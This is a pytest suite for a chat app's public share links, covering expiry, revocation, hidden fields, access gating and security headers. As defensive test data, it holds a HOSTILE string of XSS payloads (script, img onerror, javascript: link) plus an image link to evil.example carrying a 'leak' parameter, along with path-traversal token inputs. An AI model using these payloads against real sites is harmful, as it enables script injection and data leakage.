"""A public link, its whole life: what its page shows and what it never does, and how it dies."""

import re
from datetime import UTC, datetime, timedelta
from uuid import UUID

import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Mount, Route, WebSocketRoute
from starlette.testclient import TestClient
from starlette.websockets import WebSocket, WebSocketDisconnect

from nexus_core import agents, chat, config, conversations, database, messages, parts, shares, shelf
from nexus_core.api import api, shared
from nexus_core.api.gate import Gate
from nexus_core.conversations import Place
from nexus_core.database import Scope, transaction
from nexus_core.errors import Forbidden, Invalid, NotFound
from tests.api.conftest import Program
from tests.nexus_core.conversing import ask, project
from tests.store import ask as rows
from tests.store import do, fill

BASE = "http://nexus.test:8501"
HOSTILE = "<img src=x onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1)) ![p](https://evil.example/p?leak=1)"


async def cockpit(request: Request) -> Response:
    """Stands for everything else that is served."""
    return PlainTextResponse("the cockpit")


async def stream(websocket: WebSocket) -> None:
    """Stands for Streamlit's WebSocket."""
    await websocket.accept()


door = Starlette(
    routes=[
        *shared.routes,
        Mount("/api", app=api),
        WebSocketRoute("/{path:path}", stream),
        Route("/{path:path}", cockpit, methods=["GET", "POST"]),
    ],
    middleware=[Middleware(Gate)],
)


@pytest.fixture
def stranger(database_url: str, monkeypatch: pytest.MonkeyPatch) -> TestClient:
    """Somebody who is signed in nowhere."""
    monkeypatch.setenv("NEXUS_AUTH", "password")
    config.reset()
    return TestClient(door, base_url=BASE, raise_server_exceptions=False, follow_redirects=False)


def made(scope: Scope, *said: tuple[str, str], title: str = "A talk", place: Place | None = None) -> UUID:
    with transaction(scope) as tx:
        found = conversations.create(tx, place or Place(), title=title, metadata={"secret": "metadata"})
        for role, text in said:
            messages.append(tx, found.id, role, [parts.reasoning("a thought"), parts.text(text)], model="gpt-secret")
    return found.id


def share(scope: Scope, conversation_id: UUID, **more: int) -> str:
    with transaction(scope) as tx:
        return shares.create(tx, conversation_id, **more)[1]


def status(client: TestClient, token: str) -> int:
    return client.get(f"/shared/{token}").status_code


def test_a_link_lives_and_dies(client: TestClient, stranger: TestClient, operator: Scope) -> None:
    found = made(operator, ("user", "Where do we launch?"), ("assistant", "In **Lisbon**."))
    answer = client.post(f"/api/conversations/{found}/shares", json={"days": 7})
    told = answer.json()["data"]
    assert answer.status_code == 201 and told["messages"] == 2 and told["views"] == 0
    assert re.fullmatch(r"http://nexus\.test:8501/shared/[\w-]{22}", told["url"])
    assert datetime.fromisoformat(told["expiresAt"]) - datetime.now(UTC) > timedelta(days=6.9)
    page = stranger.get(told["url"])
    assert page.status_code == 200 and "set-cookie" not in page.headers
    assert "Where do we launch?" in page.text and "<strong>Lisbon</strong>" in page.text
    stranger.head(told["url"])
    (listed,) = client.get(f"/api/conversations/{found}/shares").json()["data"]
    assert (listed["id"], listed["views"], "url" in listed) == (told["id"], 1, False)
    assert client.get("/api/shares").json()["data"] == [listed]
    with transaction(operator) as tx:
        messages.append(tx, found, "user", [parts.text("Said later")])
    assert "Said later" not in stranger.get(told["url"]).text
    assert client.delete(f"/api/shares/{told['id']}").json()["data"] == {"id": told["id"]}
    assert stranger.get(told["url"]).status_code == 404
    assert client.delete(f"/api/shares/{told['id']}").status_code == 404
    assert client.get("/api/shares").json()["data"] == []
    token = told["url"].rpartition("/")[2]
    stored = rows(operator, "SELECT CAST(shares AS text) AS row FROM shares")
    assert token not in stored[0].row and "Lisbon" not in stored[0].row
    audited = rows(operator, "SELECT action, entity FROM audit WHERE action IN ('share', 'revoke') ORDER BY at")
    assert [tuple(row) for row in audited] == [("share", "conversation"), ("revoke", "share")]
    assert token not in str(rows(operator, "SELECT detail FROM audit"))


def test_every_dead_link_looks_the_same(stranger: TestClient, operator: Scope) -> None:
    ids = [made(operator, ("user", "x"), title=f"talk {n}") for n in range(5)]
    tokens = [share(operator, one) for one in ids]
    assert [status(stranger, token) for token in tokens] == [200] * 5
    do(operator, "UPDATE shares SET expires_at = now() WHERE conversation_id = :id", id=ids[0])
    with transaction(operator) as tx:
        shares.revoke(tx, shares.of_conversation(tx, ids[1])[0].id)
        shelf.trash(tx, [ids[2]])
        shelf.delete(tx, [ids[3]])
    do(operator, "UPDATE conversations SET deleted_at = now() WHERE id = :id", id=ids[4])
    wrong = ["x", "A" * 22, "a" * 5000, "%00", "%F0%9F%9A%80", "%FF", "a%0Ab"]
    answers = [stranger.get(f"/shared/{token}") for token in [*tokens, *wrong]]
    assert {answer.status_code for answer in answers} == {404}
    assert len({answer.text for answer in answers}) == 1
    assert len({tuple(sorted(answer.headers.items())) for answer in answers}) == 1
    with transaction(operator) as tx:
        shelf.restore(tx, [ids[2]])
    assert status(stranger, tokens[2]) == 404, "what is restored is not shared again"


def test_the_page_shows_the_snapshot_and_nothing_else(stranger: TestClient, scope: Scope, operator: Scope) -> None:
    with transaction(operator) as tx:
        ada = agents.create(tx, "Ada", instructions="You are a secret instruction.")
    place = Place(project(operator, "Secret project"), ada.id)
    found = made(
        operator, ("system", "A system prompt"), ("user", "Question"), ("assistant", "Answer"), ("tool", "A result"),
        place=place,
    )  # fmt: skip
    ask(operator, "My name is Ana", conversation_id=found)
    with transaction(operator) as tx:
        answer = messages.newest_answer(tx, found)
    assert answer
    with transaction(operator) as tx:
        messages.append(tx, found, "assistant", [parts.tool("c", "search", '{"q": "arguments"}', output="tool output")])
    text = stranger.get(f"/shared/{share(operator, found)}").text
    for shown in ("Question", "Answer", "My name is Ana", "Person", "Assistant", "UTC"):
        assert shown in text
    for hidden in (
        "A system prompt", "A result", "a thought", "gpt-secret", "secret instruction", "Secret project", "Olga",
        "operator@example.com", "Ada", "metadata", "arguments", "tool output", "builtin/recall", str(found),
        str(operator.user_id), str(operator.workspace_id),
    ):  # fmt: skip
        assert hidden not in text, hidden


def test_only_the_path_that_is_shown_is_shared(stranger: TestClient, operator: Scope) -> None:
    turn, answer = ask(operator, "My name is Ana")
    again = chat.answer_again(operator, answer.id)
    do(operator, "UPDATE messages SET body = 'the first version' WHERE id = :id", id=answer.id)
    del again
    assert "the first version" not in stranger.get(f"/shared/{share(operator, turn.conversation_id)}").text


def test_hostile_text_is_inert_and_nothing_is_loaded(stranger: TestClient, operator: Scope) -> None:
    found = made(operator, ("user", HOSTILE), ("assistant", HOSTILE), ("assistant", "x" * 300_000), title=HOSTILE[:60])
    page = stranger.get(f"/shared/{share(operator, found)}")
    assert not re.findall(r"<(?:img|script|iframe|object|embed|base|form|svg on)", page.text)
    assert [link for link in re.findall(r'href="([^"]*)"', page.text) if link != "data:,"] == [
        "https://evil.example/p?leak=1"
    ]
    assert 'rel="noopener nofollow noreferrer"' in page.text
    assert "src=" not in re.sub(r"&lt;.*?&gt;", "", page.text)
    policy = page.headers["content-security-policy"]
    assert policy.startswith("default-src 'none'; style-src 'sha256-") and "script" not in policy
    assert "unsafe" not in policy and "sandbox" in policy
    for name, value in (
        ("referrer-policy", "no-referrer"), ("x-robots-tag", "noindex, nofollow"), ("cache-control", "no-store"),
        ("x-content-type-options", "nosniff"), ("x-frame-options", "DENY"),
    ):  # fmt: skip
        assert page.headers[name] == value
    assert '<meta name="robots" content="noindex, nofollow">' in page.text


def test_the_gate_opens_for_nothing_else(stranger: TestClient, operator: Scope) -> None:
    token = share(operator, made(operator, ("user", "x")))
    for path in (
        "/shared", "/shared/", f"/shared/{token}/", f"/shared/{token}/x", f"/shared/{token}/_stcore/stream",
        f"/shared/../{token}/x", f"/shared/{token}%2F..%2Fchat", f"/xshared/{token}", f"//shared/{token}",
    ):  # fmt: skip
        assert stranger.get(path).text != "the cockpit", path
        assert stranger.get(path).status_code in (303, 401), path
    assert stranger.post(f"/shared/{token}").status_code == 401
    for path in (f"/shared/{token}", f"/shared/{token}/_stcore/stream"):
        with pytest.raises(WebSocketDisconnect), stranger.websocket_connect(path):
            pass
    assert stranger.get(f"/shared/{token}", headers={"cookie": "nexus_session=x"}).status_code == 200


def test_who_may_share_and_withdraw(scope: Scope, operator: Scope, colleague: Scope, viewer: Scope) -> None:
    open_ = made(operator, ("user", "x"), place=Place(project(operator)))
    private = made(operator, ("user", "x"), title="private")
    with pytest.raises(Forbidden):
        share(viewer, open_)
    for days in (0, -1, 366):
        with pytest.raises(Invalid):
            share(operator, open_, days=days)
    with pytest.raises(NotFound):
        share(colleague, private)
    share(colleague, open_)
    share(operator, private)
    with transaction(colleague) as tx:
        assert [one.conversation_id for one in shares.live(tx)] == [open_]
        assert shares.of_conversation(tx, private) == []
    with transaction(operator) as tx:
        assert [one.conversation_id for one in shares.live(tx)] == [private]
        (theirs,) = shares.of_conversation(tx, open_)
        assert theirs.created_by_name == "Carlos"
    with transaction(scope) as tx:
        assert [one.id for one in shares.live(tx)] == [theirs.id], "an admin sees all, but what is private"
        mine = shares.create(tx, made_in(scope))[0]
    with pytest.raises(NotFound), transaction(colleague) as tx:
        shares.revoke(tx, mine.id)
    with transaction(operator) as tx:
        shares.revoke(tx, theirs.id)  # to a conversation of one's own
    with transaction(Scope(scope.workspace_id, scope.user_id, "viewer")) as tx:
        shares.revoke(tx, mine.id)  # one's own, whatever one may do by now


def made_in(scope: Scope) -> UUID:
    return made(scope, ("user", "x"), place=Place(project(scope, "Another")))


def test_links_of_two_workspaces_do_not_meet(
    stranger: TestClient, program: Program, scope: Scope, other_scope: Scope
) -> None:
    corner = fill(other_scope, "other")
    token = share(other_scope, corner.open)
    assert "The big engine." in stranger.get(f"/shared/{token}").text
    with transaction(scope) as tx:
        assert shares.live(tx) == []
        with pytest.raises(NotFound):
            shares.visit(tx, token)


def test_a_link_says_so_when_the_database_is_away(stranger: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NEXUS_DATABASE_URL", "postgresql://postgres@127.0.0.1:1/none")
    config.reset()
    database.reset()
    answer = stranger.get("/shared/" + "A" * 22)
    assert answer.status_code == 503 and "content-security-policy" in answer.headers
